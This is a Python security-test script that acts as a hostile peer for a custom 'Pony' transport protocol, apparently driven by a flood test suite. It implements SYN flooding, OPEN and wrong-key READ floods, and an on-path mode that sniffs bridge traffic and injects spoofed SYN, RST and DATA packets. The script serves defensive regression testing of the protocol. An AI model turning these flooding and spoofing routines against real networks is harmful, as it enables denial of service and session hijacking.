#!/usr/bin/env python3
"""Hostile Pony peer without a key (issue 14 items 2 and 3), for tests/security/pony_flood.sh.

Modes (every loop bounded in count and time):
  synflood  IP PEER DUR    from PORTS source ports, SYN every 50 ms per port; completes each
                           handshake whose SYN_ACK arrives (it can receive) and keeps the
                           flows alive with PROBEs: held only to the peer's per-IP budget.
  openflood IP PEER DUR    one flow, then 1,030 OPENs to service 999 (nobody listens), never
                           acking anything, PROBEs to look alive.
  osflood   IP PEER DUR    one flow, then 600 one-sided READs with a wrong key, never acking.
  forge     IFA IFB DUR    on-path: sniffs the A<->B flow on the bridge ports IFA (toward A)
                           and IFB (toward B), then injects, spoofed from each side, a SYN
                           with another flow id, RSTs with the ids but a stale seq, and DATA
                           beyond the window.
Prints what it did as "attacker: key value" lines.
"""
import os
import select
import socket
import struct
import sys
import time

VERSION = 3
SYN, SYN_ACK, RST, FIN, FIN_ACK, ACK, PROBE = 1, 2, 3, 4, 5, 6, 7
DATA, OPEN, OS_REQ = 16, 17, 32
F_ACK_VALID, F_HS = 0x01, 0x08
HDR = struct.Struct(">BBBBIIIIQQIIIIIIIHHI")  # pony/WIRE.md, 72 bytes
PORT = 4793
SO_NO_CHECK = 11  # linux/asm-generic/socket.h


def _crc32c_table():
    t = []
    for i in range(256):
        c = i
        for _ in range(8):
            c = (c >> 1) ^ 0x82F63B78 if c & 1 else c >> 1
        t.append(c)
    return t


CRC_T = _crc32c_table()


def crc32c(b):
    c = 0xFFFFFFFF
    for x in b:
        c = CRC_T[(c ^ x) & 0xFF] ^ (c >> 8)
    return c ^ 0xFFFFFFFF


def pony(typ, src, dst, seq=0, ack=0, flags=0, aux=0, sid=0, src_sid=0, msg_id=0,
         msg_len=0, offset=0, payload=b""):
    f = [VERSION, typ, flags, 0, src, dst, seq & 0xFFFFFFFF, ack & 0xFFFFFFFF,
         time.monotonic_ns(), 0, 0, sid, src_sid, msg_id, msg_len, offset, aux,
         len(payload), 0, 0]
    f[-1] = crc32c(HDR.pack(*f) + payload)
    return HDR.pack(*f) + payload


def parse(b):
    if len(b) < HDR.size or b[0] != VERSION:
        return None
    f = HDR.unpack_from(b)
    return {"type": f[1], "flags": f[2], "src": f[4], "dst": f[5], "seq": f[6], "ack": f[7],
            "aux": f[16]}


class Flow:
    """One flow from (our ip, sport) to the victim, as an initiator that can receive."""

    def __init__(self, ip, peer, sport, fid):
        self.s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        # UDP checksum 0, as Pony sends (pony/WIRE.md): a checksum left to veth offload
        # would arrive unfinished at the daemon's packet socket and be dropped.
        self.s.setsockopt(socket.SOL_SOCKET, SO_NO_CHECK, 1)
        self.s.bind((ip, sport))
        self.s.setblocking(False)
        self.peer, self.id, self.isn = (peer, PORT), fid, 7000
        self.peer_id = self.peer_isn = None

    def send(self, pkt):
        try:
            self.s.sendto(pkt, self.peer)
        except OSError:
            pass  # ENOBUFS / unreachable: a flood does not care

    def syn(self):
        self.send(pony(SYN, self.id, 0, seq=self.isn, aux=256))

    def poll(self):
        """Read answers; complete the handshake (HS ACK) on a SYN_ACK for us."""
        while True:
            try:
                b = self.s.recv(2048)
            except BlockingIOError:
                return
            h = parse(b)
            if h and h["type"] == SYN_ACK and h["dst"] == self.id:
                self.peer_id, self.peer_isn = h["src"], h["seq"]
                self.send(pony(ACK, self.id, self.peer_id, seq=self.isn, ack=self.peer_isn,
                               flags=F_ACK_VALID | F_HS, aux=256))
            elif h and h["type"] == RST and h["dst"] == self.id:
                self.peer_id = None  # reset: start over

    def probe(self):
        if self.peer_id is not None:  # ack never moves: we acknowledge nothing
            self.send(pony(PROBE, self.id, self.peer_id, ack=self.peer_isn, flags=F_ACK_VALID))
        else:
            self.syn()


def connect(ip, peer, sport, fid, deadline):
    f = Flow(ip, peer, sport, fid)
    while f.peer_id is None and time.monotonic() < deadline:
        f.syn()
        select.select([f.s], [], [], 0.05)
        f.poll()
    if f.peer_id is None:
        sys.exit("attacker: no SYN_ACK from %s" % peer)
    return f


def keep_alive(flows, until):
    while time.monotonic() < until:
        for f in flows:
            f.poll()
            f.probe()
        time.sleep(0.05)


def synflood(ip, peer, dur):
    nports = int(os.environ.get("PORTS", "96"))
    flows = [Flow(ip, peer, 20000 + i, 0x1000 + i) for i in range(nports)]
    keep_alive(flows, time.monotonic() + dur)
    print("attacker: ports %d handshakes_completed %d" %
          (nports, sum(f.peer_id is not None for f in flows)))


def flood(ip, peer, dur, n, build):
    end = time.monotonic() + dur
    f = connect(ip, peer, 21000, 0xE0E0, end)
    for k in range(n):
        f.send(build(f, k))
        if k % 64 == 63:
            time.sleep(0.002)  # let the victim's rings drain; still ~30k packets/s
    keep_alive([f], end)
    print("attacker: sent %d" % n)


def openflood(ip, peer, dur):
    flood(ip, peer, dur, 1030, lambda f, k: pony(
        OPEN, f.id, f.peer_id, seq=f.isn + k, ack=f.peer_isn, flags=F_ACK_VALID, aux=999,
        src_sid=k + 1))


def osflood(ip, peer, dur):
    # READ of 8 bytes at offset 0 of region 1 with a key nobody gave us (pony/WIRE.md).
    rec = struct.pack(">BBHIIIQQ", 1, 0, 0, 1, 1, 8, 0xBAD0BAD0BAD0BAD0, 0)
    flood(ip, peer, dur, 600, lambda f, k: pony(
        OS_REQ, f.id, f.peer_id, seq=f.isn + k, ack=f.peer_isn, flags=F_ACK_VALID, aux=1,
        payload=rec))


def ip_csum(h):
    s = sum(struct.unpack(">10H", h))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def frame(eth_dst, eth_src, ip_src, ip_dst, sport, dport, payload):
    udp = struct.pack(">HHHH", sport, dport, 8 + len(payload), 0) + payload
    iph = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0x4000, 64, 17, 0,
                      ip_src, ip_dst)
    iph = iph[:10] + struct.pack(">H", ip_csum(iph)) + iph[12:]
    return eth_dst + eth_src + b"\x08\x00" + iph + udp


def sniff(sock):
    """Next Pony packet on a bridge port: (eth_dst, eth_src, ip_src, ip_dst, sport, dport, hdr)."""
    b, addr = sock.recvfrom(4096)
    if addr[2] == socket.PACKET_OUTGOING:
        return None  # the copy leaving toward this port's host; we want what it sent
    if len(b) < 14 + 20 + 8 + HDR.size or b[12:14] != b"\x08\x00" or b[23] != 17:
        return None
    ihl = (b[14] & 0x0F) * 4
    sport, dport = struct.unpack_from(">HH", b, 14 + ihl)
    h = parse(b[14 + ihl + 8:])
    if h is None or PORT not in (sport, dport):
        return None
    return b[0:6], b[6:12], b[26:30], b[30:34], sport, dport, h


def forge(ifa, ifb, dur):
    socks = {}
    for name in (ifa, ifb):
        # ETH_P_ALL: on a bridge port only the all-protocol taps run before the bridge
        # takes the frame.
        s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
        s.bind((name, 0))
        socks[name] = s
    out_of = {socks[ifa]: socks[ifb], socks[ifb]: socks[ifa]}
    end = time.monotonic() + dur
    # Learn one established packet in each direction: who is who, the ports and both ids.
    seen = {}
    while len(seen) < 2 and time.monotonic() < end:
        r, _, _ = select.select(list(socks.values()), [], [], 0.1)
        for s in r:
            p = sniff(s)
            if p and p[6]["dst"] != 0 and p[6]["flags"] & F_ACK_VALID:
                # Keyed by the sender's IP; inject toward its peer, out of the other port.
                seen[p[2]] = (p, out_of[s])
    if len(seen) < 2:
        sys.exit("attacker: saw no established flow")
    print("attacker: sniffed ids %s" % " ".join(
        "%x->%x" % (p[6]["src"], p[6]["dst"]) for p, _ in seen.values()), flush=True)
    sent = {"syn": 0, "rst": 0, "data": 0}
    rounds = 0
    while time.monotonic() < end and rounds < 2000:
        rounds += 1
        for p, out in seen.values():
            ed, es, isrc, idst, sp, dp, h = p
            # Spoofed from the sender of p to its receiver: the ids are right; the
            # receiver's rcv_nxt is the ack it sent when we sniffed, long stale by now.
            rcv = seen[idst][0][6]["ack"]
            pkts = [
                pony(SYN, h["src"] ^ 0x5A5A5A5A, 0, seq=12345, aux=256),
                pony(RST, h["src"], h["dst"], seq=rcv - 1, ack=h["ack"]),
                pony(RST, h["src"], h["dst"], seq=rcv + 0x40000000, ack=h["ack"]),
                pony(DATA, h["src"], h["dst"], seq=rcv + 0x100000, ack=h["ack"],
                     flags=F_ACK_VALID, sid=1, msg_len=4, payload=b"evil"),
            ]
            for k, pk in enumerate(pkts):
                try:
                    out.send(frame(ed, es, isrc, idst, sp, dp, pk))
                except OSError:
                    pass
                sent[("syn", "rst", "rst", "data")[k]] += 1
        time.sleep(0.01)
    print("attacker: forged syn %d rst %d data %d" % (sent["syn"], sent["rst"], sent["data"]))


def main():
    mode = sys.argv[1]
    dur = float(sys.argv[4])
    if mode == "forge":
        forge(sys.argv[2], sys.argv[3], dur)
    else:
        {"synflood": synflood, "openflood": openflood, "osflood": osflood}[mode](
            sys.argv[2], sys.argv[3], dur)


if __name__ == "__main__":
    main()
